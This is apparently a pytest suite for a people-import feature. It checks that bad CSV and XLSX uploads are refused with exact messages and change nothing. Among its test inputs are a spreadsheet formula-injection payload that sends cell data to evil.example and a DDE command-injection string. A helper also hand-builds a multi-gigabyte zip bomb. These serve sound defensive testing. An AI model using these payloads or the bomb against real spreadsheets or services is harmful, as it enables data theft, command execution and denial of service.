"""The bad-input corpus of the people import: each file with the message it must get.

Small files are committed under ``tests/corpus/imports/`` (byte for byte: encodings, byte
order marks and line endings are what they test). The large ones (100,000 people, a 50 MB
file, an XLSX bomb) are made at run time in ``tmp_path``, never committed. Every refused
file leaves the organisation as it was: an import is all or nothing. docs/bad-input.md lists
the limits and the messages.

Personas from tests/conftest.py: Carla (admin of Acme) imports; Acme has the units
Operations/Logistics/Team North and Team South, and Sales/Team East, with 14 people.
"""

from __future__ import annotations

import html
import io
import struct
import tracemalloc
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from trustmirror.orgs.importing import MAX_FILE_BYTES, MAX_ROWS, ImportFailed, people_import
from trustmirror.orgs.models import Person, Unit

CORPUS = Path(__file__).parent.parent / "corpus" / "imports"
HEADER = "name,email,language,unit,lead\n"


@dataclass(frozen=True)
class Case:
    file: str
    messages: tuple[str, ...]  # each must be one of the import's errors, whole
    dutch: tuple[str, ...] = ()  # the same in Dutch, where the catalogue has them
    on_page: tuple[str, ...] = ()  # where the upload form says it before the import does


UTF8_ADVICE = "Save the file as 'CSV UTF-8' and upload it again."
BAD = [
    Case(
        "windows-1252-semicolons.csv",
        (f"Line 3 is not valid UTF-8 text. {UTF8_ADVICE}",),
        ("Regel 3 is geen geldige UTF-8-tekst.",),
    ),
    Case(
        "utf-16-unicode-text.txt",
        (
            "The file is saved as UTF-16 (Unicode text). "
            "Save it as 'CSV UTF-8' and upload it again.",
        ),
    ),
    Case(
        "duplicate-emails.csv",
        ("Line 4: the e-mail anna@zorg.test is also on line 2.",),
        ("Regel 4: het e-mailadres anna@zorg.test staat ook op regel 2.",),
    ),
    Case(
        "missing-columns.csv",
        (
            "Line 1: the header misses the columns language, lead. "
            "Expected: name, email, language, unit, lead.",
        ),
        ("Regel 1: in de kopregel ontbreken de kolommen language, lead.",),
    ),
    Case(
        "no-header.csv",
        (
            "Line 1: the header misses the columns name, email, language, unit, lead. "
            "Expected: name, email, language, unit, lead.",
        ),
    ),
    Case(
        "header-only.csv",
        ("The file has a header but no people.",),
        ("Het bestand heeft een kopregel, maar geen personen.",),
    ),
    Case("empty.csv", ("The file is empty.",), on_page=("The submitted file is empty.",)),
    Case("people.pdf", ("Upload a .csv or .xlsx file; people.pdf is neither.",)),
    Case(
        "formulas.csv",
        (
            'Line 3: the name column holds a formula, =HYPERLINK("http://evil.example/?x="&B2…; '
            "put the value itself in the cell.",
            'Line 4: the unit column holds a formula, =A1&"/Noord"; '
            "put the value itself in the cell.",
        ),
    ),
    Case(
        "unit-spellings.csv",
        (
            "Line 3: the unit zorg is written Zorg on line 2; write it the same way.",
            "Line 4: the unit Zorg/NOORD is written Zorg/Noord on line 2; write it the same way.",
        ),
    ),
    Case(
        "unclosed-quote.csv",
        ("Line 2: a value runs on to line 22. Is a closing quotation mark missing?",),
    ),
    Case(
        "bad-values.csv",
        (
            "Line 2: anna@zorg is not an e-mail address.",
            "Line 3: language fr is not nl or en.",
            "Line 4: the name is empty.",
            "Line 4: the unit path Zorg//Noord has an empty segment.",
            "Line 4: lead maybe is not yes or no.",
        ),
    ),
    Case("long-band.csv", ("Line 2: the band tenure is longer than 100 characters.",)),
    Case("nul-bytes.csv", ("Line 2: a value holds an invisible control character.",)),
]


def _counts(organisation) -> tuple[int, int]:
    return (
        Person.objects.filter(organisation=organisation).count(),
        Unit.objects.filter(organisation=organisation).count(),
    )


def _refused(organisation, filename: str, content: bytes) -> list[str]:
    before = _counts(organisation)
    with pytest.raises(ImportFailed) as failure:
        people_import(organisation=organisation, filename=filename, content=content)
    assert _counts(organisation) == before, "a refused import wrote something"
    return failure.value.errors


@pytest.fixture
def import_url():
    return reverse("orgs:people_import", kwargs={"org": "acme"})


def _post(client, url: str, filename: str, content: bytes):
    return client.post(url, {"file": SimpleUploadedFile(filename, content)})


# --- the committed corpus -----------------------------------------------------------------


def test_every_corpus_file_has_a_case():
    named = {case.file for case in BAD} | {name for name, _ in GOOD}
    assert {p.name for p in CORPUS.iterdir() if not p.name.startswith(".")} == named


@pytest.mark.parametrize("case", BAD, ids=lambda case: case.file)
def test_a_bad_file_gets_its_message_and_changes_nothing(acme, case):
    errors = _refused(acme.org, case.file, (CORPUS / case.file).read_bytes())
    for message in case.messages:
        assert message in errors, errors
    assert len(errors) == len(case.messages), errors


@pytest.mark.parametrize("case", BAD, ids=lambda case: case.file)
def test_the_import_page_shows_the_message_and_changes_nothing(client, acme, import_url, case):
    client.force_login(acme.carla)
    before = _counts(acme.org)
    response = _post(client, import_url, case.file, (CORPUS / case.file).read_bytes())
    assert response.status_code == 200
    page = html.unescape(response.content.decode())
    for message in case.on_page or case.messages:
        assert message in page
    assert _counts(acme.org) == before


@pytest.mark.parametrize("case", [c for c in BAD if c.dutch], ids=lambda case: case.file)
def test_the_messages_are_dutch_for_a_dutch_reader(client, acme, import_url, case):
    client.force_login(acme.carla)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "nl"
    response = _post(client, import_url, case.file, (CORPUS / case.file).read_bytes())
    page = html.unescape(response.content.decode())
    for message in case.dutch:
        assert message in page
    assert case.messages[0] not in page


# Files that look odd but are what spreadsheets really save: imported, with what they hold.
GOOD = [
    # Dutch Excel's 'CSV UTF-8': a byte order mark, semicolons, Dutch headers, CRLF.
    ("utf-8-bom-semicolons.csv", {"anna@zorg.test": "Zorg/Noord", "joel@zorg.test": "Zorg/Noord"}),
    ("tab-separated.txt", {"anna@zorg.test": "Zorg/Noord"}),
    # A path that names a unit again below itself: new units, never a loop.
    (
        "unit-loop.csv",
        {"anna@zorg.test": "Zorg/Noord/Zorg/Noord", "ben@zorg.test": "Zorg/Noord/Zorg"},
    ),
]


@pytest.mark.parametrize(("file", "units"), GOOD, ids=[name for name, _ in GOOD])
def test_what_spreadsheets_really_save_is_imported(acme, file, units):
    people_import(organisation=acme.org, filename=file, content=(CORPUS / file).read_bytes())
    for email, path in units.items():
        assert Person.objects.get(organisation=acme.org, email=email).unit.path == path
    assert Person.objects.get(email="anna@zorg.test").name in ("Anna", "Anna de Vries")


def test_the_unit_tree_has_no_cycle_after_any_import(acme):
    """A file names each unit by its path from the top, so it cannot describe a cycle: a
    name that comes back lower in a path is a new unit, with its own parent."""
    people_import(
        organisation=acme.org,
        filename="unit-loop.csv",
        content=(CORPUS / "unit-loop.csv").read_bytes(),
    )
    for unit in Unit.objects.filter(organisation=acme.org):
        seen = set()
        walk = unit
        while walk is not None:
            assert walk.pk not in seen, f"{unit.path} is its own ancestor"
            seen.add(walk.pk)
            walk = walk.parent
        assert len(seen) == unit.depth + 1 == len(unit.path.split("/"))


def test_a_unit_spelled_otherwise_than_the_organisation_has_it_is_refused(acme):
    content = (HEADER + "Nel,nel@acme.test,nl,operations/Logistics/Team North,no\n").encode()
    assert _refused(acme.org, "p.csv", content) == [
        "Line 2: the unit operations is called Operations in the organisation; "
        "write it the same way."
    ]


def test_a_failure_while_writing_leaves_nothing_half_applied(acme, monkeypatch):
    """All or nothing even when the database fails on the third new person."""
    content = (
        HEADER + "".join(f"P{n},p{n}@acme.test,nl,New/Unit {n},no\n" for n in range(5))
    ).encode()
    before = _counts(acme.org)
    real_create = Person.objects.create
    calls = 0

    def failing_create(**kwargs):
        nonlocal calls
        calls += 1
        if calls == 3:
            raise RuntimeError("the disk is full")
        return real_create(**kwargs)

    monkeypatch.setattr(Person.objects, "create", failing_create)
    with pytest.raises(RuntimeError):
        people_import(organisation=acme.org, filename="p.csv", content=content)
    assert calls == 3
    assert _counts(acme.org) == before


# --- spreadsheets -------------------------------------------------------------------------


def _workbook(*rows: list[object]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _with_sheet_cells(workbook: bytes, old: bytes, new: bytes) -> bytes:
    """``workbook`` with ``old`` replaced by ``new`` in its first sheet's XML."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                assert old in data
                data = data.replace(old, new)
            target.writestr(info, data)
    return out.getvalue()


COLUMNS = ["name", "email", "language", "unit", "lead"]


def test_an_xlsx_formula_imports_the_value_excel_saved(acme):
    """Excel saves each formula's result beside it; that result is what is imported."""
    plain = _workbook(COLUMNS, ["PLACEHOLDER", "nel@acme.test", "nl", "Sales/Team East", "no"])
    book = _with_sheet_cells(
        plain,
        b'<c r="A2" t="inlineStr"><is><t>PLACEHOLDER</t></is></c>',
        b'<c r="A2" t="str"><f>PROPER("nel de boer")</f><v>Nel De Boer</v></c>',
    )
    people_import(organisation=acme.org, filename="p.xlsx", content=book)
    assert Person.objects.get(email="nel@acme.test").name == "Nel De Boer"


def test_an_xlsx_cell_holding_formula_text_is_refused(acme):
    """Text that a spreadsheet would run as a formula once exported, stored as a string."""
    book = _with_sheet_cells(
        _workbook(COLUMNS, ["PLACEHOLDER", "nel@acme.test", "nl", "Sales", "no"]),
        b"<t>PLACEHOLDER</t>",
        b"<t>=cmd|' /C calc'!A0</t>",
    )
    assert _refused(acme.org, "p.xlsx", book) == [
        "Line 2: the name column holds a formula, =cmd|' /C calc'!A0; "
        "put the value itself in the cell."
    ]


def _zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip of already deflated ``(name, deflated, crc, size)`` entries, written by hand so
    that a bomb's data can be one compressed block repeated (zlib would take seconds)."""
    out = bytearray()
    directory = bytearray()
    for name, data, crc, size in entries:
        encoded = name.encode()
        fields = (20, 0, 8, 0, 0, crc, len(data), size, len(encoded), 0)
        directory += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0, 0, len(out)
        )
        directory += encoded
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + encoded + data
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(directory), len(out), 0
    )
    return bytes(out + directory + end)


def _deflated(data: bytes) -> tuple[bytes, int, int]:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush(), zlib.crc32(data), len(data)


def test_an_xlsx_bomb_of_gigabytes_is_refused_without_unpacking(acme):
    """A 2 MB workbook whose sheet unpacks to 2 GiB (spaces between the XML's tags)."""
    template = zipfile.ZipFile(io.BytesIO(_workbook(COLUMNS)))
    entries = [
        (info.filename, *_deflated(template.read(info.filename)))
        for info in template.infolist()
        if info.filename != "xl/worksheets/sheet1.xml"
    ]
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    spaces, repeat = b" " * (1 << 24), 128
    tail = b"<sheetData/></worksheet>"
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    # A full flush ends each block on a byte with an empty window: the same bytes follow.
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(spaces) + packer.flush(zlib.Z_FULL_FLUSH)
    last = packer.compress(tail) + packer.flush()
    crc = zlib.crc32(head)
    for _ in range(repeat):
        crc = zlib.crc32(spaces, crc)
    crc = zlib.crc32(tail, crc)
    size = len(head) + repeat * len(spaces) + len(tail)
    sheet = ("xl/worksheets/sheet1.xml", first + block * repeat + last, crc, size)
    content = _zip([*entries, sheet])
    with zipfile.ZipFile(io.BytesIO(content)) as bomb:  # a real one: it does unpack
        assert bomb.getinfo(sheet[0]).file_size == size > 2 * 1024**3
        with bomb.open(sheet[0]) as unpacking:
            assert unpacking.read(1 << 20) == (head + spaces)[: 1 << 20]
    assert len(content) < 3_000_000

    tracemalloc.start()
    errors = _refused(acme.org, "bomb.xlsx", content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert errors == [
        "The workbook unpacks to more than 64 MB, more than a list of 50000 people needs. "
        "Save only the list of people, or save it as CSV."
    ]
    assert peak < 5_000_000, peak  # refused from the zip's directory, nothing unpacked


def test_a_sheet_claiming_a_huge_dimension_is_read_as_it_is(acme):
    """A stated range of 1,048,576 rows and 16,384 columns is not believed."""
    book = _with_sheet_cells(
        _workbook(COLUMNS, ["Nel", "nel@acme.test", "nl", "Sales/Team East", "no"]),
        b'<dimension ref="A1:E2" />',
        b'<dimension ref="A1:XFD1048576" />',
    )
    tracemalloc.start()
    result = people_import(organisation=acme.org, filename="p.xlsx", content=book)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert result.created == 1 and peak < 20_000_000


# --- large files, made at run time ---------------------------------------------------------


def test_a_file_of_100000_people_is_refused_in_bounded_memory(client, acme, import_url, tmp_path):
    """3.6 MB of CSV: read up to person 50,001, then refused; nothing written.

    Bound: 80 MB at the peak, for the 50,000 rows held before the refusal (a row costs about
    a kilobyte as a Python dict); the file itself is not copied whole.
    """
    path = tmp_path / "people.csv"
    with path.open("w") as out:
        out.write(HEADER)
        for n in range(100_000):
            out.write(f"Person {n},p{n}@acme.test,nl,Operations/Unit {n % 40},no\n")
    content = path.read_bytes()
    assert len(content) < MAX_FILE_BYTES
    tracemalloc.start()
    errors = _refused(acme.org, "people.csv", content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert errors == [
        f"Line {MAX_ROWS + 2}: the file has more than {MAX_ROWS} people. Split it into files "
        f"of at most {MAX_ROWS} people and import them one by one."
    ]
    assert peak < 80_000_000, f"{peak / 1e6:.0f} MB"

    client.force_login(acme.carla)
    before = _counts(acme.org)
    response = _post(client, import_url, "people.csv", content)
    assert response.status_code == 200
    assert f"more than {MAX_ROWS} people" in response.content.decode()
    assert _counts(acme.org) == before


def test_a_50_mb_upload_is_refused_by_its_size_before_it_is_read(
    client, acme, import_url, tmp_path
):
    path = tmp_path / "people.csv"
    line = b"Person,p@acme.test,nl,Operations,no\n"
    with path.open("wb") as out:
        out.write(HEADER.encode())
        out.write(line * (50 * 1024 * 1024 // len(line)))
    client.force_login(acme.carla)
    before = _counts(acme.org)
    with path.open("rb") as upload:
        response = client.post(import_url, {"file": upload})
    assert response.status_code == 413
    assert "A file to import may be at most 10 MB." in response.content.decode()
    assert _counts(acme.org) == before


def test_a_50_mb_file_from_the_command_line_is_refused_unread(acme, tmp_path):
    """The command line hands the service the whole file; the service refuses it by size
    before decoding a byte (no copy: the peak stays under a megabyte)."""
    content = HEADER.encode() + b"P,p@acme.test,nl,Ops,no\n" * (50 * 1024 * 1024 // 24)
    tracemalloc.start()
    errors = _refused(acme.org, "people.csv", content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert errors == [
        "The file is 50.0 MB; a people file may be at most 10 MB. "
        "Save only the list of people, or split it into several files."
    ]
    assert peak < 1_000_000


def test_a_file_just_over_the_limit_is_refused_by_the_form(client, acme, import_url, settings):
    """Between the form's limit and the body limit (which leaves room for the form)."""
    client.force_login(acme.carla)
    content = HEADER.encode() + b"\n" * MAX_FILE_BYTES
    response = _post(client, import_url, "people.csv", content)
    assert response.status_code == 200
    assert "The file is larger than 10 MB." in html.unescape(response.content.decode())


def test_a_large_valid_utf8_file_is_checked_in_bounded_memory():
    """The encoding check decodes a megabyte at a time, not the whole file at once."""
    from trustmirror.orgs.importing import _first_line_not_utf8

    content = ("Jürgen," * 1_400_000).encode() + b"\n\xff\n"
    assert len(content) > 9_000_000
    tracemalloc.start()
    line = _first_line_not_utf8(content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert line == 2
    assert peak < 6_000_000, f"{peak / 1e6:.1f} MB"
